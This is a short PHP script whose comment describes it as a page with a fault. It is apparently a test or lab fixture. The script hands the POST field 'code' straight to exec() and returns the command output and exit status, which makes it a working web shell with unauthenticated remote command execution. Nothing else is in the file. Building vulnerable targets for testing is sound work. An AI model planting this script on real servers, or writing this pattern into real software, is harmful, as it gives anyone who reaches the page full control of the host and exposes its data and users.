<?php
// A page with a fault: it runs whatever it is sent, and answers with what that says and how it ends.
header('Content-Type: text/plain');
exec('exec 2>&1; ' . $_POST['code'], $lines, $status);
echo implode("\n", $lines), "\n", $status, "\n";
